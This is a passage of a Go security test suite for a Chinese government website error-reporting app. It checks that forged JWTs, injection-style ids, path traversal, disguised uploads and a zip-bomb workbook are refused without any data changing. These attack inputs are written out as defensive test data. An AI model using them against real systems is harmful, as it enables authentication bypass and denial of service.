	// words, unknown kinds, dates that are no date, oversized bodies, bad ids and actions, other
	// roles and forms from another site. Refused ones are a 4xx with a Chinese message and add or
	// change no entry and no audit event; accepted ones are shown as text.
	for _, a := range hostileInspectionRuleAttacks(texts) {
		add(a)
	}
	// 26. Appeals and the sites' exceptions (issue 20): forged ids, another unit's finding, another
	// region's decisions, oversized and disguised documents (hostile_appeals_test.go).
	list = append(list, appealAttacks()...)
	return list
}

func TestHostileRequests(t *testing.T) {
	w := newHostileWorld(t)
	corpus := hostileCorpus(t, w)
	if len(corpus) < 200 {
		t.Fatalf("only %d hostile requests", len(corpus))
	}
	t.Logf("%d hostile requests on %s", len(corpus), w.Store.Dialect())
	for _, a := range corpus {
		before := w.counts()
		var statuses []int
		var htmlBody string
		if a.raw != "" {
			statuses = w.sendRaw(a.raw)
		} else {
			resp, body := a.send(w)
			statuses = []int{resp.StatusCode}
			if resp.StatusCode == http.StatusSeeOther && strings.HasPrefix(resp.Header.Get("Location"), "/login") {
				statuses[0] = http.StatusUnauthorized // a page's way of refusing: to the sign-in page
			}
			if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
				htmlBody = body
			}
			if resp.StatusCode >= 500 {
				t.Errorf("%s: %d %.300s", a.name, resp.StatusCode, body)
				continue
			}
			if a.check != nil {
				if err := a.check(w, resp, body); err != nil {
					t.Errorf("%s: %v", a.name, err)
				}
			}
		}
		after := w.counts()
		var acknowledged int64
		for _, s := range statuses {
			if s >= 500 && !(s == http.StatusNotImplemented && a.raw != "") {
				// (501 is net/http's answer, before any handler, to a transfer coding it does
				// not know, as RFC 9112 says it should be.)
				t.Errorf("%s: %d", a.name, s)
			}
			if s == http.StatusCreated {
				acknowledged++
			}
		}
		if a.raw == "" && statuses[0] == http.StatusSeeOther && after.tickets == before.tickets+1 {
			acknowledged++ // the form's 303 to /report/done
		}
		if after.tickets-before.tickets != acknowledged {
			t.Errorf("%s: %d tickets stored, %d acknowledged", a.name, after.tickets-before.tickets, acknowledged)
		}
		if a.refuse && (statuses[0] < 400 || statuses[0] >= 500) {
			t.Errorf("%s: %d, want it refused with a 4xx", a.name, statuses[0])
		}
		if statuses[0] >= 400 && after != before {
			t.Errorf("%s: refused with %d, yet the data changed: %+v → %+v", a.name, statuses[0], before, after)
		}
		if a.payload != "" && strings.ContainsAny(a.payload, `<>"'`) && strings.Contains(htmlBody, a.payload) {
			t.Errorf("%s: the payload %q is in the page unescaped", a.name, a.payload)
		}
	}

	// What was taken is shown as text wherever it is shown.
	pages := []string{"/replies", "/staff/tickets?per_page=100", "/staff/audit", "/staff/stats", "/admin", "/admin/users",
		"/admin/registry", "/admin/calendar", "/admin/settings", "/admin/webhooks"}
	rows, err := w.Store.SQLDB().Query("SELECT ticket_no FROM tickets")
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var no string
		rows.Scan(&no)
		pages = append(pages, "/staff/tickets/"+no)
	}
	rows.Close()
	supervisor := w.browser("sc-supervisor")
	for _, p := range pages {
		client := supervisor
		if strings.HasPrefix(p, "/admin") {
			client = w.adminPages
		}
		r, _ := http.NewRequest("GET", w.URL+p, nil)
		resp, body := w.send(client, r)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("GET %s: %d", p, resp.StatusCode)
		}
		for _, inj := range injections {
			if strings.ContainsAny(inj, `<>"'`) && strings.Contains(body, inj) {
				t.Errorf("GET %s shows %q unescaped", p, inj)
			}
		}
	}
}

type dataCounts struct{ tickets, events, users, attachments, sessions int64 }

func (w *hostileWorld) counts() dataCounts {
	w.t.Helper()
	var c dataCounts
	db := w.Store.SQLDB()
	for q, dst := range map[string]*int64{
		"SELECT COUNT(*) FROM tickets": &c.tickets, "SELECT COUNT(*) FROM ticket_events": &c.events,
		"SELECT COUNT(*) FROM users": &c.users, "SELECT COUNT(*) FROM attachments": &c.attachments,
		"SELECT COALESCE(SUM(token_version), 0) FROM users": &c.sessions,
	} {
		if err := db.QueryRow(q).Scan(dst); err != nil {
			w.t.Fatalf("%s: %v", q, err)
		}
	}
	return c
}

// sendRaw writes raw on a fresh connection and reads every response the server gives.
func (w *hostileWorld) sendRaw(raw string) []int {
	w.t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(w.URL, "http://"))
	if err != nil {
		w.t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second)) // a stuck server fails the test rather than hanging it
	go func() { io.WriteString(conn, raw); conn.(*net.TCPConn).CloseWrite() }()
	var statuses []int
	br := bufio.NewReader(conn)
	for {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			break
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		statuses = append(statuses, resp.StatusCode)
		for _, c := range resp.Cookies() {
			if c.Name == "zc_session" {
				w.t.Errorf("a raw request got a session cookie set: %v", c)
			}
		}
	}
	if len(statuses) == 0 {
		statuses = []int{400} // the server closed the connection: refused
	}
	return statuses
}

// forgedTokens are tokens no one should get in with.
func forgedTokens(t *testing.T) map[string]string {
	secret := []byte("test-secret-test-secret-test-secret!")
	sign := func(method jwt.SigningMethod, key any, claims jwt.MapClaims) string {
		s, err := jwt.NewWithClaims(method, claims).SignedString(key)
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	now := time.Now()
	valid := func() jwt.MapClaims {
		return jwt.MapClaims{"sub": "1", "iss": "zhaocuo", "aud": []string{"zhaocuo"}, "iat": now.Unix(), "exp": now.Add(time.Hour).Unix(), "ver": 1, "role": "admin"}
	}
	enc := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	payload := enc(`{"sub":"1","iss":"zhaocuo","aud":["zhaocuo"],"iat":1,"exp":9999999999,"ver":1,"role":"admin"}`)
	expired := valid()
	expired["exp"], expired["iat"] = now.Add(-time.Hour).Unix(), now.Add(-2*time.Hour).Unix()
	future := valid()
	future["iat"] = now.Add(24 * time.Hour).Unix()
	wrongVersion := valid()
	wrongVersion["ver"] = 99
	textSub := valid()
	textSub["sub"] = "1 OR 1=1"
	return map[string]string{
		"alg none":              enc(`{"alg":"none","typ":"JWT"}`) + "." + payload + ".",
		"alg None":              enc(`{"alg":"None"}`) + "." + payload + ".",
		"alg HS256, no sig":     enc(`{"alg":"HS256"}`) + "." + payload + ".",
		"wrong key":             sign(jwt.SigningMethodHS256, []byte("another-secret-another-secret-1234"), valid()),
		"HS384 with the key":    sign(jwt.SigningMethodHS384, secret, valid()),
		"expired":               sign(jwt.SigningMethodHS256, secret, expired),
		"issued tomorrow":       sign(jwt.SigningMethodHS256, secret, future),
		"old token version":     sign(jwt.SigningMethodHS256, secret, wrongVersion),
		"subject not a number":  sign(jwt.SigningMethodHS256, secret, textSub),
		"garbage":               "not.a.token",
		"empty parts":           "..",
		"huge":                  strings.Repeat("A", 8000),
		"kid path traversal":    enc(`{"alg":"HS256","kid":"../../../../dev/null"}`) + "." + payload + "." + enc("x"),
		"jku to another server": enc(`{"alg":"RS256","jku":"https://evil.example/keys"}`) + "." + payload + "." + enc("x"),
	}
}

// pngHeader is the start of a PNG that claims width×height pixels.
func pngHeader(width, height int) []byte {
	b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	b = append(b, byte(width>>24), byte(width>>16), byte(width>>8), byte(width),
		byte(height>>24), byte(height>>16), byte(height>>8), byte(height), 8, 2, 0, 0, 0, 0, 0, 0, 0)
	return b
}

// rawJSON is a JSON object of the fields, their bytes as they are (encoding/json would make
// invalid UTF-8 valid).
func rawJSON(fields map[string]string) string {
	var parts []string
	for k, v := range fields {
		parts = append(parts, `"`+jsonText(k)+`":"`+jsonText(v)+`"`)
	}
	return "{" + strings.Join(parts, ",") + "}"
}

// jsonText puts s inside a JSON string as it is, escaping only what JSON requires; invalid
// UTF-8 stays invalid.
func jsonText(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

func mustURL(s string) *url.URL {
	u, err := url.Parse(s)
	if err != nil {
		panic(err)
	}
	return u
}

// noFigures is the check of a scrape that must be refused: no figure in the answer.
func noFigures(_ *hostileWorld, _ *http.Response, body string) error {
	if strings.Contains(body, "zhaocuo_") || strings.Contains(body, "go_goroutines") {
		return fmt.Errorf("figures served: %.200s", body)
	}
	return nil
}

// noFollow sends req with the client's cookies and returns the answer as it came: Go's client
// fails on a Location with a control character, which a browser would follow.
func (w *hostileWorld) noFollow(c *http.Client, req *http.Request) (*http.Response, string) {
	w.t.Helper()
	if c.Jar != nil {
		for _, ck := range c.Jar.Cookies(req.URL) {
			req.AddCookie(ck)
		}
	}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		w.t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp, string(body)
}

// onSite: a redirect stays on this site, however a browser reads its Location.
func onSite(w *hostileWorld, resp *http.Response, _ string) error {
	if resp.StatusCode != http.StatusSeeOther {
		return fmt.Errorf("%d, want a 303", resp.StatusCode)
	}
	return staysOnSite(w.URL, resp)
}

// lockedOut: a 429 that says when to come back.
func lockedOut(_ *hostileWorld, resp *http.Response, body string) error {
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" || !strings.Contains(body, "分钟后再试") {
		return fmt.Errorf("%d (Retry-After %q), want 429 with the minutes to wait", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
	return nil
}

// importRequest uploads an account sheet as the import form does.
func (w *hostileWorld) importRequest(name, content string) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", name)
	io.WriteString(fw, content)
	mw.Close()
	req, _ := http.NewRequest("POST", w.URL+"/staff/inspection/accounts/import", &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	return req
}

// importFetchedNothing runs the import the upload stored through the worker's real task, under
// production's guard (no range allowed): every menu link is a finding in the refusal's words, and
// the trap saw no connection.
func importFetchedNothing(trap *egresstest.Refused) func(w *hostileWorld, resp *http.Response, body string) error {
	return func(w *hostileWorld, resp *http.Response, body string) error {
		id, err := strconv.ParseInt(strings.TrimPrefix(resp.Header.Get("Location"), "/staff/inspection/imports/"), 10, 64)
		if resp.StatusCode != http.StatusSeeOther || err != nil {
			return fmt.Errorf("the sheet was not taken: %d %s", resp.StatusCode, resp.Header.Get("Location"))
		}
		mux := asynq.NewServeMux()
		jobs.Register(mux, jobs.Deps{Store: w.Store, Queue: &taskQueue{}, Clock: w.Clock, Sender: &jobs.Sender{},
			Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
		task, _ := jobs.NewImportAccountsTask(id)
		if err := mux.ProcessTask(context.Background(), task); err != nil {
			return err
		}
		_, results, err := w.Store.ImportResults(context.Background(), models.Scope{All: true}, 0, id)
		if err != nil || len(results) == 0 {
			return fmt.Errorf("results: %d, %v", len(results), err)
		}
		for _, r := range results {
			refused := false
			for _, f := range r.Findings {
				refused = refused || f.Evidence == "菜单链接不可用："+egresstest.Words
			}
			if !refused {
				return fmt.Errorf("the menu link %s is not refused: %+v", r.MenuLinks, r.Findings)
			}
		}
		if n := trap.Connections(); n != 0 {
			return fmt.Errorf("%d connections reached the server's own network", n)
		}
		return nil
	}
}

// webhookFetchesNothing posts to the webhook the form stored, with the sender production builds
// (no range allowed): refused in the words staff read, and the trap saw no connection.
func webhookFetchesNothing(trap *egresstest.Refused, target string) func(w *hostileWorld, resp *http.Response, body string) error {
	return func(w *hostileWorld, resp *http.Response, body string) error {
		var stored string
		if err := w.Store.SQLDB().QueryRow("SELECT url FROM webhooks WHERE url = ?", target).Scan(&stored); err != nil {
			return fmt.Errorf("the webhook was not stored: %d, %v", resp.StatusCode, err)
		}
		err := (&jobs.Sender{}).Send(context.Background(), "webhook", stored, "测试", "正文")
		if !errors.Is(err, egress.ErrRefused) || !strings.HasPrefix(err.Error(), "webhook: "+egresstest.Words+": ") {
			return fmt.Errorf("posting to %s: %v", stored, err)
		}
		if n := trap.Connections(); n != 0 {
			return fmt.Errorf("%d connections reached the server's own network", n)
		}
		return nil
	}
}

// badCredentials: the one answer of a wrong password.
func badCredentials(_ *hostileWorld, resp *http.Response, body string) error {
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "用户名或密码错误") {
		return fmt.Errorf("%d %.200s, want the wrong password's 400", resp.StatusCode, body)
	}
	return nil
}

// disabledUser adds zc-disabled, with the demo password, and disables it.
func (w *hostileWorld) disabledUser() {
	ctx := w.t.Context()
	u, err := w.Store.CreateUser(ctx, models.UserSpec{Username: "zc-disabled", DisplayName: "停用账号", Role: models.RoleUnitStaff, Unit: "四川省人民政府办公厅"}, demoPassword)
	if err != nil {
		w.t.Fatal(err)
	}
	if err := w.Store.SetUserEnabled(ctx, models.RegistryActor{Scope: models.Scope{All: true}}, u.ID, false); err != nil {
		w.t.Fatal(err)
	}
}

// linkCases makes the tickets of section 12, all of the 国资委: primary and late received on
// 2025-03-10 (due 03-13, so overdue in the world's now, 03-25) about one page; late merged into
// primary at receipt and unlinked by the supervisor at once, so that each stands alone; and two
// received now: one about another page, one about w.gzwNo's page in another category.
func (w *hostileWorld) linkCases() (late, primary, otherPage, otherCategory string) {
	w.t.Helper()
	now := w.Clock.Now()
	w.Clock.Set(time.Date(2025, 3, 10, 10, 0, 0, 0, now.Location()))
	primary, _ = w.submitTo("https://gzw.sc.gov.cn/hostile-links.html")
	late, _ = w.submitTo("https://gzw.sc.gov.cn/hostile-links.html")
	if r, b := w.api("POST", "/api/v1/tickets/"+late+"/unlink", w.supToken, ""); r.StatusCode != http.StatusOK {
		w.t.Fatalf("unlink %s: %d %v", late, r.StatusCode, b)
	}
	w.Clock.Set(now)
	otherPage, _ = w.submitTo("https://gzw.sc.gov.cn/hostile-elsewhere.html")
	f := validFields()
	f["page_url"], f["category"] = "https://gzw.sc.gov.cn/a.html", "其他"
	resp, body := w.postJSON("/api/v1/reports", jsonBody(f))
	if resp.StatusCode != http.StatusCreated {
		w.t.Fatalf("submit: %d %v", resp.StatusCode, body)
	}
	return late, primary, otherPage, body["ticket_no"].(string)
}

// stillOverdue checks that the ticket still counts as overdue: in its unit's overdue list, and as
// due and overdue (not a duplicate) in the completion rates of the day it was received.
func (w *hostileWorld) stillOverdue(no string) error {
	r, _ := http.NewRequest("GET", w.URL+"/api/v1/tickets?overdue=1&per_page=100", nil)
	r.Header.Set("Authorization", "Bearer "+w.staffToken)
	_, body := w.send(w.anon, r)
	if !strings.Contains(body, `"ticket_no":"`+no+`"`) {
		return fmt.Errorf("%s is no longer in the overdue list: %.300s", no, body)
	}
	_, stats := w.api("GET", "/api/v1/stats/completion?from=2025-03-10&to=2025-03-10", w.staffToken, "")
	total, _ := stats["total"].(map[string]any)
	if total["due"] != 2.0 || total["overdue"] != 2.0 || total["duplicates"] != 0.0 {
		return fmt.Errorf("the rates of 03-10 no longer count both tickets as due and overdue: %v", total)
	}
	return nil
}

// publishedWithPersonalData files a report whose description holds a phone number, an ID card
// number and an e-mail address, and takes it to a published reply (section 15).
func (w *hostileWorld) publishedWithPersonalData() {
	w.t.Helper()
	f := validFields()
	f["description"] = "页面上的电话13800138000打不通，身份证11010519491231002X，邮箱zhang.san@example.com，请核实。"
	resp, body := w.postJSON("/api/v1/reports", jsonBody(f))
	if resp.StatusCode != http.StatusCreated {
		w.t.Fatalf("submit: %d %v", resp.StatusCode, body)
	}
	w.answer(body["ticket_no"].(string), true)
}

// repliesShowWhatTheyMatch: every reply a search of 留言选登 lists shows q in its text (full-width
// and half-width, upper and lower case alike, as the databases compare), so the search told
// nothing the page does not show.
func repliesShowWhatTheyMatch(q string, resp *http.Response, body string) error {
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("search answered %d", resp.StatusCode)
	}
	fold := func(s string) string { return strings.ToLower(width.Fold.String(s)) }
	var err error
	doc, _ := goquery.NewDocumentFromReader(strings.NewReader(body))
	doc.Find("article.reply").Each(func(_ int, a *goquery.Selection) {
		text := a.Text()
		if strings.Contains(text, "13800138000") || strings.Contains(text, "19491231") || strings.Contains(text, "zhang.san") {
			err = fmt.Errorf("a reply shows unmasked personal data: %q", text)
		} else if !strings.Contains(fold(text), fold(q)) {
			err = fmt.Errorf("the search lists a reply that does not show %q: %q", q, text)
		}
	})
	return err
}

// csvExportHoldsAsText: the unit's CSV export shows the description of the ticket marked so as
// text, a quote before it (section 16).
func (w *hostileWorld) csvExportHoldsAsText(description, marker string) error {
	r, _ := http.NewRequest("GET", w.URL+"/staff/tickets?"+url.Values{"format": {"csv"}, "q": {marker}}.Encode(), nil)
	resp, body := w.send(w.staffPages, r)
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if resp.StatusCode != http.StatusOK || err != nil || len(records) != 2 {
		return fmt.Errorf("CSV export: %d, %d records, %v", resp.StatusCode, len(records), err)
	}
	for _, cell := range records[1] {
		if strings.Contains(cell, marker) && cell != "'"+description {
			return fmt.Errorf("the CSV holds %q, not the text '%s", cell, description)
		}
	}
	return nil
}

// openRectification opens a rectification for 国资委, as publishing a circular would, and
// returns its id (section 16).
func (w *hostileWorld) openRectification() int64 {
	w.t.Helper()
	db := w.Store.SQLDB()
	var unit, region int64
	if err := db.QueryRow("SELECT u.id, u.region_id FROM units u JOIN users s ON s.unit_id = u.id WHERE s.username = 'gzw-staff'").Scan(&unit, &region); err != nil {
		w.t.Fatal(err)
	}
	now := w.Clock.Now().UTC()
	res, err := db.Exec(`INSERT INTO circulars (region_id, period, version, status, decimals, cutoff, deadline, title, doc_number, issuer,
		recipients, intro, overview, problems, requirements, closing, issue_date, figures, created_at, updated_at)
		VALUES (?, '2025Q1', 1, 'published', 2, '2025-03-20', '2025-04-30', '检查情况通报', '', '四川省人民政府办公厅', '', '', '', '', '', '', '2025-03-25', '{}', ?, ?)`,
		region, now, now)
	if err != nil {
		w.t.Fatal(err)
	}
	circular, _ := res.LastInsertId()
	res, err = db.Exec(`INSERT INTO rectifications (circular_id, region_id, unit_id, kind, subject, problems, due_on, due_at, status, note, created_at, updated_at)
		VALUES (?, ?, ?, 'website', '国资委网站', '暗链', '2025-04-30', ?, 'open', '', ?, ?)`, circular, region, unit, now.AddDate(0, 1, 0), now, now)
	if err != nil {
		w.t.Fatal(err)
	}
	id, _ := res.LastInsertId()
	return id
}

// reportUpload is the unit's API upload of a rectification report.
func (w *hostileWorld) reportUpload(id int64, name string, data []byte) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("report", name)
	fw.Write(data)
	mw.Close()
	req := w.jsonRequest("POST", fmt.Sprintf("/api/v1/rectifications/%d/report", id), w.staffToken, "")
	req.Body, req.ContentLength = io.NopCloser(&buf), int64(buf.Len())
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return req
}

// reportServedSafely: the report is taken, then named and served as the app chooses: an
// attachment 整改报告-<id>.pdf of type application/pdf, not sniffed; no .hta anywhere.
func (w *hostileWorld) reportServedSafely(id int64, resp *http.Response) error {
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("a PDF named .hta was refused: %d", resp.StatusCode)
	}
	r := w.jsonRequest("GET", fmt.Sprintf("/api/v1/rectifications/%d/report", id), w.staffToken, "")
	got, _ := w.send(w.anon, r)
	_, params, err := mime.ParseMediaType(got.Header.Get("Content-Disposition"))
	want := fmt.Sprintf("整改报告-%d.pdf", id)
	switch {
	case err != nil || params["filename"] != want || !strings.HasPrefix(got.Header.Get("Content-Disposition"), "attachment;"):
		return fmt.Errorf("served as %q, want an attachment named %q", got.Header.Get("Content-Disposition"), want)
	case strings.Contains(strings.ToLower(got.Header.Get("Content-Disposition")), "hta"):
		return fmt.Errorf("served as %q", got.Header.Get("Content-Disposition"))
	case got.Header.Get("Content-Type") != "application/pdf" || got.Header.Get("X-Content-Type-Options") != "nosniff":
		return fmt.Errorf("served as %q, X-Content-Type-Options %q", got.Header.Get("Content-Type"), got.Header.Get("X-Content-Type-Options"))
	}
	return nil
}

// accountImport is a supervisor's API import of a sheet.
func (w *hostileWorld) accountImport(sheet []byte) *http.Request {
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", "台账.xlsx")
	fw.Write(sheet)
	mw.Close()
	req := w.jsonRequest("POST", "/api/v1/inspection/accounts/import", w.supToken, "")
	req.Body, req.ContentLength = io.NopCloser(&buf), int64(buf.Len())
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return req
}

// xlsxBomb is a workbook made by excelize whose worksheet is replaced by one of about inflate
// bytes of repeated rows, then extra; with claimed, its zip header says the worksheet has that
// size (a header that lies).
func xlsxBomb(t *testing.T, inflate int, claimed uint64, extra string) []byte {
	t.Helper()
	x := excelize.NewFile()
	defer x.Close()
	book, err := x.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	zr, _ := zip.NewReader(bytes.NewReader(book.Bytes()), int64(book.Len()))
	var deflated bytes.Buffer
	var written byteCount
	fw, _ := flate.NewWriter(&deflated, flate.BestSpeed)
	crc := crc32.NewIEEE()
	out := io.MultiWriter(fw, crc, &written)
	io.WriteString(out, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
		`<row r="1"><c r="A1" t="inlineStr"><is><t>账号名称</t></is></c><c r="B1" t="inlineStr"><is><t>平台</t></is></c></row>`)
	rows := strings.Repeat(`<row><c t="inlineStr"><is><t>示范发布</t></is></c><c t="inlineStr"><is><t>微信公众号</t></is></c></row>`, 1000)
	for int(written) < inflate {
		io.WriteString(out, rows)
	}
	io.WriteString(out, extra+`</sheetData></worksheet>`)
	fw.Close()
	size := uint64(written)
	if claimed != 0 {
		size = claimed
	}
	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	for _, f := range zr.File {
		if f.Name != "xl/worksheets/sheet1.xml" {
			zw.Copy(f)
			continue
		}
		raw, _ := zw.CreateRaw(&zip.FileHeader{Name: f.Name, Method: zip.Deflate, CRC32: crc.Sum32(),
			CompressedSize64: uint64(deflated.Len()), UncompressedSize64: size})
		raw.Write(deflated.Bytes())
	}
	zw.Close()
	return bomb.Bytes()
}

// byteCount counts the bytes written to it.
type byteCount int

func (c *byteCount) Write(p []byte) (int, error) {
	*c += byteCount(len(p))
	return len(p), nil
}

// crossRegion is section 13's world on the suite's app: 成都's supervisor, staff and reviewer,
// and 绵阳's and the province's people who make the objects they try to write (scope_test.go).
func (w *hostileWorld) crossRegion() *scopeWorld { return scopeWorldOn(w.t, w.testApp) }

// boundedRefusal is section 14's check: a 400 of a few kilobytes saying what is wrong, as JSON
// {"error": ...} from the API and as a page in Chinese elsewhere.
func boundedRefusal(isAPI bool) func(*hostileWorld, *http.Response, string) error {
	return func(_ *hostileWorld, resp *http.Response, body string) error {
		switch {
		case resp.StatusCode != http.StatusBadRequest:
			return fmt.Errorf("%d (%d bytes), want 400", resp.StatusCode, len(body))
		case len(body) > 64<<10:
			return fmt.Errorf("a refusal of %d bytes", len(body))
		case isAPI && !strings.HasPrefix(body, `{"error":`):
			return fmt.Errorf("the API answered %.200s, want {\"error\": ...}", body)
		case !isAPI && !strings.Contains(body, "时段") && !strings.Contains(body, "as_of"):
			return fmt.Errorf("the page does not say what is wrong: %.300s", body)
		}
		return nil
	}
}

// noticeChoicesAreTheDefaults says whether gzw-staff's notice choices are still the defaults of
// every kind (the hostile suite changes them in none of its requests).
func (w *hostileWorld) noticeChoicesAreTheDefaults() error {
	u, err := w.Store.Authenticate(context.Background(), "gzw-staff", demoPassword)
	if err != nil {
		return err
	}
	choices, err := w.Store.NoticeChoices(context.Background(), u)
	if err != nil {
		return err
	}
	for i, k := range models.NoticeKindsFor(u.Role) {
		if choices[i] != (models.NoticeChoice{Kind: k.Kind, Email: k.Email, Webhook: k.Webhook}) {
			return fmt.Errorf("the choices of %s changed: %+v", k.Kind, choices[i])
		}
	}
	return nil
}

// reviewerlessAttacks are section 21's requests, on tickets and users of their own: a reply
// waiting at 自贡's office (no reviewer), an assigned ticket there, and a 国资委 reply waiting
// for its reviewer.
func (w *hostileWorld) reviewerlessAttacks(texts []string) []attack {
	w.t.Helper()
	for _, spec := range []models.UserSpec{
		{Username: "h21-zg-staff", Role: models.RoleUnitStaff, Unit: "自贡市人民政府办公室"},
		{Username: "h21-zg-supervisor", Role: models.RoleSupervisor, RegionCode: "510300"},
		{Username: "h21-lz-supervisor", Role: models.RoleSupervisor, RegionCode: "510500"},
	} {
		if _, err := w.Store.CreateUser(context.Background(), spec, demoPassword); err != nil {
			w.t.Fatal(err)
		}
	}
	zgStaff, zgSup, lzSup := w.apiLogin("h21-zg-staff"), w.apiLogin("h21-zg-supervisor"), w.apiLogin("h21-lz-supervisor")
	reply := `{"text":"链接已经修复，感谢您的反馈。","confirmed":true}`
	to := func(token, no string, steps ...string) {
		for _, step := range steps {
			body := ""
			if step == "reply" {
				body = reply
			}
			if resp, b := w.api("POST", "/api/v1/tickets/"+no+"/"+step, token, body); resp.StatusCode != http.StatusOK {
				w.t.Fatalf("%s %s: %d %v", step, no, resp.StatusCode, b)
			}
		}
	}
	waiting, _ := w.submitTo("https://www.zg.gov.cn/h21-waiting.html")
	to(zgStaff, waiting, "accept", "reply")
	assigned, _ := w.submitTo("https://www.zg.gov.cn/h21-assigned.html")
	reviewed, _ := w.submitTo("https://gzw.sc.gov.cn/h21-reviewed.html")
	to(w.staffToken, reviewed, "accept", "reply")
	zgUnit := strconv.FormatInt(w.unitIDOf("自贡市人民政府办公室"), 10)
	lzUnit := strconv.FormatInt(w.unitIDOf("泸州市人民政府办公室"), 10)

	browsers := map[string]*http.Client{"h21-zg-staff": w.browser("h21-zg-staff"), "h21-zg-supervisor": w.browser("h21-zg-supervisor"),
		"h21-lz-supervisor": w.browser("h21-lz-supervisor"), "sc-supervisor": w.browser("sc-supervisor")}
	tokens := map[string]string{"h21-zg-staff": zgStaff, "h21-zg-supervisor": zgSup, "h21-lz-supervisor": lzSup, "sc-supervisor": w.supToken}
	var list []attack
	for _, c := range []struct {
		name, who, no, body string
		want                int
	}{
		{"another region's supervisor approves a reply with no reviewer", "h21-lz-supervisor", waiting, `{"public":true}`, http.StatusNotFound},
		{"another region's supervisor approves, its own unit's id forged in", "h21-lz-supervisor", waiting, `{"public":true,"unit_id":` + lzUnit + `}`, http.StatusNotFound},
		{"staff approve their own unit's reply", "h21-zg-staff", waiting, `{"public":true}`, http.StatusForbidden},
		{"staff approve, the unit's id forged in", "h21-zg-staff", waiting, `{"public":true,"unit_id":` + zgUnit + `}`, http.StatusForbidden},
		{"the region's supervisor approves a ticket not waiting for review", "h21-zg-supervisor", assigned, `{"public":true}`, http.StatusConflict},
		{"the province's supervisor approves past the unit's reviewer", "sc-supervisor", reviewed, `{"public":true}`, http.StatusForbidden},
	} {
		var before string
		same := func(want int) func(w *hostileWorld, resp *http.Response, body string) error {
			return func(w *hostileWorld, resp *http.Response, body string) error {
				if resp.StatusCode != want {
					return fmt.Errorf("%d %.200s, want %d", resp.StatusCode, body, want)
				}
				if dataFingerprint(w.t, w.Store.SQLDB()) != before {
					return fmt.Errorf("refused, yet something was written")
				}
				return nil
			}
		}
		list = append(list, attack{name: "approve: " + c.name + " (API)", refuse: true, check: same(c.want), send: func(w *hostileWorld) (*http.Response, string) {
			before = dataFingerprint(w.t, w.Store.SQLDB())
			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+c.no+"/approve", tokens[c.who], c.body))
		}})
		list = append(list, attack{name: "approve: " + c.name + " (page)", refuse: true, check: same(c.want), send: func(w *hostileWorld) (*http.Response, string) {
			before = dataFingerprint(w.t, w.Store.SQLDB())
			v := url.Values{"public": {"1"}, "request_key": {"h21-" + c.who}, "unit_id": {zgUnit}}
			return w.send(browsers[c.who], w.formRequest("POST", "/staff/tickets/"+c.no+"/approve", v, "same-origin"))
		}})
	}

	// The review setting: forged unit ids and values that are not a choice, from the admin; the
	// right form from people who are not the admin.
	var setting string
	keep := func(w *hostileWorld, _ *http.Response, _ string) error {
		if now := w.unitReviewFingerprint(); now != setting {
			return fmt.Errorf("the review setting or its audit trail changed")
		}
		return nil
	}
	post := func(name string, c *http.Client, path string, v url.Values, payload string) {
		list = append(list, attack{name: "unit review: " + name, refuse: true, payload: payload, check: keep, send: func(w *hostileWorld) (*http.Response, string) {
			setting = w.unitReviewFingerprint()
			return w.send(c, w.formRequest("POST", path, v, "same-origin"))
		}})
	}
	for _, id := range []string{"0", "-1", "99999999", "9223372036854775808", "1e3", "0x10", zgUnit + "%20OR%201=1", "%00", "..%2F..%2Fusers"} {
		post("forged unit id "+id, w.adminPages, "/admin/units/"+id+"/review", url.Values{"review_required": {"0"}}, "")
	}
	for _, text := range append(append([]string{}, texts...), "", "true", "false", "00", "1 ", "2") {
		post("review_required "+text, w.adminPages, "/admin/units/"+zgUnit+"/review", url.Values{"review_required": {text}}, text)
	}
	post("staff set a unit's review", w.staffPages, "/admin/units/"+zgUnit+"/review", url.Values{"review_required": {"0"}}, "")
	post("a supervisor sets a unit's review", browsers["h21-zg-supervisor"], "/admin/units/"+zgUnit+"/review", url.Values{"review_required": {"0"}}, "")
	return list
}

// unitReviewFingerprint is every unit's review setting and the count of registry events.
func (w *hostileWorld) unitReviewFingerprint() string {
	var n int
	var settings string
